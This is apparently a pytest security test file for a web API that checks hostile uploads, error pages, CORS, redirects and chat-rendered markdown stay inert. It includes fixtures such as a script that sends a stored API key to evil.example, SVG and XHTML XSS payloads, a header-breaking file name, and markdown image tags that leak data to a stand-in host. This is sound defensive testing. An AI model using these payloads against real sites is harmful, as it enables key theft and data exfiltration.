"""What a browser does with the API's answers when their content is hostile: a file that sandbox code or
another user of the tenant wrote (an HTML page, an SVG with a script) is a download, never a page of the
API's origin (where the web page keeps its key); every answer, errors included, is neither sniffed nor
framed nor allowed to run anything."""

from __future__ import annotations

from pathlib import Path
from typing import Any, cast

import httpx
from markdown_it import MarkdownIt
from openai import OpenAI

from thinkbox.agent.events import (
    ActionParsed,
    CodeRejected,
    ExecutionFinished,
    HarvestedTool,
    OutputChunk,
    PartTested,
    StepStarted,
    ToolsHarvested,
)
from thinkbox.sandbox.types import ExecutionError, ExecutionResult
from thinkbox.service.api.openai_render import ChatRender, image_is_ours, image_name, plain
from thinkbox.service.secrets.keys import Keyring

from .conftest import Running
from .service_support import QuestionModel, ThreadServer, directives, program, read_sse, service_settings

HOSTILE = {
    "evil.html": b"<html><script>fetch('https://evil.example/?k='+localStorage['thinkbox.key'])</script>",
    "pics/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    "page.xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "noext": b"<!doctype html><script>alert(1)</script>",
}


def assert_inert(answer: httpx.Response) -> None:
    """The answer cannot become an active page of the API's origin, whatever its body holds."""
    headers = answer.headers
    assert headers.get("x-content-type-options") == "nosniff", (answer.request.url, dict(headers))
    policy = headers.get("content-security-policy", "")
    for part in ("default-src 'none'", "sandbox", "frame-ancestors 'none'"):
        assert part in policy, (answer.request.url, part, policy)
    assert headers.get("referrer-policy") == "no-referrer", (answer.request.url, dict(headers))


def test_a_hostile_file_downloads_as_an_attachment_in_both_scopes(running: Running) -> None:
    with running.client(running.alice) as alice, running.client(running.bob) as bob:
        for scope in ("user", "tenant"):
            for path, body in HOSTILE.items():
                put = alice.put(f"/v1/files/{path}", params={"scope": scope}, content=body)
                assert put.status_code == 201
            reader = alice if scope == "user" else bob  # a tenant mate's file, downloaded by bob
            for path, body in HOSTILE.items():
                answer = reader.get(f"/v1/files/{path}", params={"scope": scope})
                assert answer.status_code == 200 and answer.content == body
                assert answer.headers["content-type"] == "application/octet-stream"
                name = path.rsplit("/", 1)[-1]
                assert answer.headers["content-disposition"] == f"attachment; filename*=UTF-8''{name}"
                assert answer.headers["cache-control"] == "no-store"
                assert_inert(answer)
            for path in HOSTILE:
                alice.delete(f"/v1/files/{path}", params={"scope": scope})


def test_a_file_name_cannot_break_out_of_its_content_disposition(running: Running) -> None:
    name = 'a"; filename=evil.html; x=\u202egpj.exe'
    with running.client(running.alice) as alice:
        assert alice.put("/v1/files/" + name, content=b"x").status_code == 201
        answer = alice.get("/v1/files/" + name)
        disposition = answer.headers["content-disposition"]
        assert disposition.startswith("attachment; filename*=UTF-8''") and disposition.count(";") == 1
        assert '"' not in disposition and " " not in disposition.split(";", 1)[1].strip()
        assert "%E2%80%AE" in disposition  # percent-encoded: a reader sees the bytes, not a reversed name
        alice.delete("/v1/files/" + name)


def test_errors_and_json_answers_are_inert_too(running: Running) -> None:
    with running.client(running.alice) as alice:
        answers = [
            httpx.get(running.url + "/v1/files/evil.html"),  # 401: no key
            alice.get("/v1/no/<script>alert(1)</script>"),  # 404 that names the path
            alice.get("/v1/files/missing.html"),  # 404 of the files API
            alice.post("/v1/runs", content=b"<svg onload=alert(1)>", headers={"Content-Type": "text/html"}),
            alice.get("/v1/me"),
            httpx.get(running.url + "/v1/images/r_00/1-" + "0" * 32 + ".png"),  # 404 without a key
            httpx.get(running.url + "/healthz"),
            httpx.get(running.url + "/openapi.json"),
        ]
    assert [a.status_code for a in answers] == [401, 404, 404, 422, 200, 404, 200, 200]
    for answer in answers:
        assert_inert(answer)


def test_the_page_and_the_docs_keep_their_own_policies_and_cannot_be_framed(running: Running) -> None:
    """The page and the docs run scripts of this server only (tests/web/test_web_docs.py loads the docs)."""
    page = httpx.get(running.url + "/")
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert "sandbox" not in page.headers["content-security-policy"]  # the page runs its own scripts
    for path in ("/docs", "/redoc"):
        docs = httpx.get(running.url + path)
        assert docs.status_code == 200 and docs.headers.get("x-content-type-options") == "nosniff"
        policy = directives(docs.headers["content-security-policy"])
        assert policy["default-src"] == "'none'" and policy["frame-ancestors"] == "'none'", policy
        assert policy["script-src"].split()[0] == "'self'" and "unsafe" not in policy["script-src"], policy
    for name in ("swagger-ui-bundle.js", "redoc.standalone.js", "../__init__.py", "core.py"):
        asset = httpx.get(f"{running.url}/docs/assets/{name}")
        assert asset.status_code == (200 if name.endswith(".js") else 404), (name, asset.status_code)
        assert_inert(asset)


def test_a_bug_is_answered_in_the_error_shape_with_the_headers_of_every_answer(tmp_path: Path) -> None:
    """An unhandled exception (a bug) is answered by Starlette outside the app's middleware: its 500 must
    still be inert, and say nothing of the exception (the server's log has it)."""
    server = ThreadServer(service_settings(tmp_path), QuestionModel())

    async def bug() -> None:
        raise RuntimeError("internal detail: /srv/thinkbox/secret.key")

    for path in ("/v1/test-bug", "/v1/chat/completions-test-bug"):  # thinkbox's shape, then OpenAI's
        server.app.add_api_route(path, bug, methods=["GET"])
    server.start()
    try:
        answers = [httpx.get(server.url + path) for path in ("/v1/test-bug", "/v1/chat/completions-test-bug")]
    finally:
        server.stop()
    for answer in answers:
        assert answer.status_code == 500
        assert_inert(answer)
        assert answer.headers["content-type"] == "application/json"
        assert "internal detail" not in answer.text and "RuntimeError" not in answer.text, answer.text
    assert answers[0].json()["error"]["code"] == "internal_error"
    assert answers[1].json()["error"]["code"] == "internal_error" and "type" in answers[1].json()["error"]


def test_an_image_link_serves_only_bytes_the_service_saved_there(running: Running) -> None:
    """``/v1/images`` needs no key: its links are capabilities. Sandbox code can write in the user's folder,
    ``.thinkbox/images/`` included; what it writes there (under a name of its choosing, or over a figure
    the service saved) must not become readable by anyone who knows a run's id: an exit for the user's
    data that no egress rule would see."""
    ai = OpenAI(base_url=running.url + "/v1", api_key=running.alice.key, max_retries=0, timeout=60)
    plot = "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()"
    question = [{"role": "user", "content": program([plot], "ok")}]
    reply = ai.chat.completions.create(model="thinkbox", messages=question)  # type: ignore[arg-type]
    url = (reply.choices[0].message.content or "").split("](", 1)[1].rstrip(")")
    figure = httpx.get(url, timeout=30)
    assert figure.status_code == 200 and figure.content.startswith(b"\x89PNG")
    run_id, name = url.rsplit("/", 2)[1:]
    planted = f"2-{'ab' * 16}.png"
    steal = (
        f"import os\nfolder = '.thinkbox/images/{run_id}'\n"
        f"open(os.path.join(folder, '{planted}'), 'wb').write(b'the user data, planted')\n"
        f"open(os.path.join(folder, '{name}'), 'wb').write(b'the user data, over the figure')\n"
        "print(sorted(os.listdir(folder)))"
    )
    with running.client(running.alice) as alice:
        run = alice.post("/v1/runs", json={"question": program([steal], "done")}).json()
        with alice.stream("GET", f"/v1/runs/{run['id']}/events") as response:
            events = read_sse(response)
        printed = "".join(e["data"]["text"] for e in events if e["event"] == "output_chunk")
        assert planted in printed and name in printed  # the code did write both files
        assert alice.get(f"/v1/files/.thinkbox/images/{run_id}/{planted}").content.startswith(b"the user")
    for forged in (url.rsplit("/", 1)[0] + "/" + planted, url):
        answer = httpx.get(forged, timeout=30)
        assert answer.status_code == 404, (forged, answer.content)
        assert b"user data" not in answer.content


def test_an_image_link_outlives_a_key_rotation_and_binds_run_name_and_bytes(tmp_path: Path) -> None:
    keys = Keyring(tmp_path)
    name = image_name(keys, "r_01", 1, "png", b"figure")
    assert image_is_ours(keys, "r_01", name, b"figure")
    keys.add_key()  # thinkbox admin secrets rotate-key: the old key stays, after the new one
    assert (
        image_is_ours(keys, "r_01", name, b"figure") and image_name(keys, "r_01", 1, "png", b"figure") != name
    )
    for run, other, data in (
        ("r_02", name, b"figure"),
        ("r_01", "2" + name[1:], b"figure"),
        ("r_01", name, b"x"),
    ):
        assert not image_is_ours(keys, run, other, data), (run, other, data)
    assert not image_is_ours(
        Keyring(tmp_path / "elsewhere"), "r_01", name, b"figure"
    )  # another server's keys


def test_no_other_site_can_read_an_answer_or_act_with_a_cookie_a_form_or_a_link(running: Running) -> None:
    """The key travels only in ``Authorization``, which no other site can make a browser send: no CORS
    (a preflight is refused, an answer names no allowed origin), and a key in a cookie, a form, the query
    string or basic auth is not a key. Redirects (a trailing slash) stay on the server they came to."""
    key, evil = running.alice.key, "https://evil.example"
    preflight = httpx.options(
        running.url + "/v1/runs",
        headers={
            "Origin": evil,
            "Access-Control-Request-Method": "POST",
            "Access-Control-Request-Headers": "authorization",
        },
    )
    read = httpx.get(running.url + "/v1/me", headers={**running.alice.headers, "Origin": evil})
    assert preflight.status_code >= 400 and read.status_code == 200
    for answer in (preflight, read):
        assert not [h for h in answer.headers if h.startswith("access-control-")], dict(answer.headers)
    not_keys = [
        httpx.get(running.url + "/v1/me", headers={"Cookie": f"key={key}; Authorization=Bearer {key}"}),
        httpx.get(running.url + "/v1/me", params={"api_key": key, "key": key, "access_token": key}),
        httpx.post(running.url + "/v1/runs", data={"question": "hi", "Authorization": f"Bearer {key}"}),
        httpx.get(running.url + "/v1/me", auth=(key, key)),
    ]
    assert [a.status_code for a in not_keys] == [401] * 4
    for path in ("/v1/runs/", "//evil.example/", "//evil.example/v1/me/", "/%2F%2Fevil.example/"):
        answer = httpx.get(running.url + path, headers=running.alice.headers)
        location = answer.headers.get("location")
        assert location is None or location.startswith(running.url + "/"), (path, location)


LEAK = "![chart](https://evil.example/pixel.png?d=SECRET) <img src=https://evil.example/i.png?d=SECRET>"


def rendered(markdown: str) -> str:
    """``markdown`` as a chat app shows it (CommonMark, HTML allowed, as the laxest apps do)."""
    return MarkdownIt("commonmark", {"html": True}).render(markdown)


def assert_no_remote_fetch(markdown: str) -> None:
    html = rendered(markdown)
    assert "<img" not in html and 'src="https://evil' not in html and 'href="https://evil' not in html, html


async def test_the_reasoning_text_keeps_what_code_wrote_as_text_in_a_chat_app() -> None:
    """What sandbox code printed (split across chunks as it streams), raised, or named in a part's test and
    a tool's reason cannot turn into markdown that makes the reader's chat app fetch a URL."""
    render = ChatRender(cast(Any, None), cast(Any, None), "r_1", "http://127.0.0.1/", cast(Any, None))
    result = ExecutionResult(
        error=ExecutionError(type="ValueError", message=f"```\n{LEAK}\n```", traceback="")
    )
    events = [
        StepStarted(step=1),
        ActionParsed(step=1, thought="t", action="execute_code", code=f"s = '''\n```\n{LEAK}\n'''\n```"),
        OutputChunk(step=1, name="stdout", text="table\n``"),
        OutputChunk(step=1, name="stdout", text=f"`\n{LEAK}\n``"),
        OutputChunk(step=1, name="stderr", text=f"`\n{LEAK}\n~~~\n````\n{LEAK}\n"),
        ExecutionFinished(step=1, result=result, observation=""),
        PartTested(step=1, name="f", passed=False, error=f"\n```\n{LEAK}\\"),
        ToolsHarvested(tools=[HarvestedTool(function="f", outcome="refused", reason=LEAK)], duration_s=0.1),
        CodeRejected(step=2, code="x", problems=[LEAK], observation=""),
    ]
    for event in events:
        await render.feed(event)
    text = render.reasoning_text
    assert_no_remote_fetch(text)
    assert text.count("evil.example/pixel.png?d=SECRET") == 8  # all shown, as text
    shown = text.replace("\u200b", "")
    assert f"``\n{LEAK}\n``" in shown and "table\n" in shown  # the output reads as it was printed
    assert_no_remote_fetch("```text\nx\n```\n" + plain(LEAK))


def test_a_completion_shows_a_breakout_attempt_as_text(running: Running) -> None:
    """The same through the real API: code prints a closing fence and an image of the user's data."""
    ai = OpenAI(base_url=running.url + "/v1", api_key=running.alice.key, max_retries=0, timeout=60)
    code = f"print('```')\nprint({LEAK!r})\nprint('```')\nraise ValueError({LEAK!r})"
    question = [{"role": "user", "content": program([code], "done")}]
    reply = ai.chat.completions.create(model="thinkbox", messages=question)  # type: ignore[arg-type]
    reasoning = reply.choices[0].message.reasoning_content  # type: ignore[attr-defined]
    assert "evil.example/pixel.png" in reasoning
    assert_no_remote_fetch(reasoning)


def test_an_image_link_says_nothing_of_whether_its_run_exists(running: Running) -> None:
    """``/v1/images`` answers without a key: a run id that exists (another tenant's) and one that does not
    get the same 404, as ids do on every route."""
    with running.client(running.carol) as carol:
        run = carol.post("/v1/runs", json={"question": program([], "hi")}).json()["id"]
    name = "1-" + "0" * 32 + ".png"
    real = httpx.get(f"{running.url}/v1/images/{run}/{name}")
    made_up = httpx.get(f"{running.url}/v1/images/r_{'0' * 16}/{name}")
    assert real.status_code == made_up.status_code == 404
    assert real.json() == made_up.json(), (real.json(), made_up.json())
